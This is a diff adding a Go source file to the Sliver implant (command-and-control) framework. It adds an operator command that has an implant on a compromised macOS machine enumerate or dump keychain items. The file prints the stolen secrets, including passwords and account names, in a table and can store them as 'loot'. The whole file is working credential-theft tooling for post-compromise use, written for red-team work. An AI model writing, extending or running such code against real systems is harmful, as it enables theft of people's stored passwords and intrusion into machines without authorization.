@@ -0,0 +1,104 @@
+package macos
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+
+	"github.com/bishopfox/sliver/client/command/loot"
+	"github.com/bishopfox/sliver/client/command/settings"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"github.com/jedib0t/go-pretty/v6/table"
+	"google.golang.org/protobuf/proto"
+)
+
+// KeychainCmd - Enumerate, or dump, the keychain items on a macOS target
+func KeychainCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	if !isDarwinTarget(con) {
+		return
+	}
+	req := &sliverpb.KeychainReq{
+		Keychain: ctx.Flags.String("keychain"),
+		Service:  ctx.Flags.String("service"),
+		Dump:     ctx.Flags.Bool("dump"),
+		Request:  con.ActiveTarget.Request(ctx),
+	}
+	if req.Dump && req.Service == "" {
+		con.PrintErrorf("Dumping requires --service, each item that doesn't trust the security tool prompts the user\n")
+		return
+	}
+	saveLoot := ctx.Flags.Bool("loot")
+	keychain, err := con.Rpc.Keychain(context.Background(), req)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if keychain.Response != nil && keychain.Response.Async {
+		con.AddBeaconCallback(keychain.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, keychain)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintKeychain(keychain, saveLoot, con)
+		})
+		con.PrintAsyncResponse(keychain.Response)
+	} else {
+		PrintKeychain(keychain, saveLoot, con)
+	}
+}
+
+// PrintKeychain - Print the keychain items, dumped secrets are optionally saved as loot
+func PrintKeychain(keychain *sliverpb.Keychain, saveLoot bool, con *console.SliverConsoleClient) {
+	if keychain.Response != nil && keychain.Response.Err != "" {
+		con.PrintResponseErr(keychain.Response)
+		return
+	}
+	if len(keychain.Items) == 0 {
+		con.PrintInfof("No keychain items\n")
+		return
+	}
+	tw := table.NewWriter()
+	tw.SetStyle(settings.GetTableStyle(con))
+	tw.AppendHeader(table.Row{"Class", "Label", "Service", "Account", "Keychain", "Secret"})
+	for _, item := range keychain.Items {
+		service := item.Service
+		if item.Class == "inet" {
+			service = item.Server
+		}
+		secret := string(item.Secret)
+		if item.Error != "" {
+			secret = console.Red + item.Error + console.Normal
+		}
+		tw.AppendRow(table.Row{item.Class, item.Label, service, item.Account, item.Keychain, secret})
+
+		if saveLoot && 0 < len(item.Secret) {
+			name := fmt.Sprintf("keychain %s (%s)", service, item.Account)
+			err := loot.AddLootUserPassword(con.Rpc, name, item.Account, string(item.Secret))
+			if err != nil {
+				con.PrintErrorf("Failed to save %s as loot: %s\n", name, err)
+			}
+		}
+	}
+	con.Printf("%s\n", tw.Render())
+}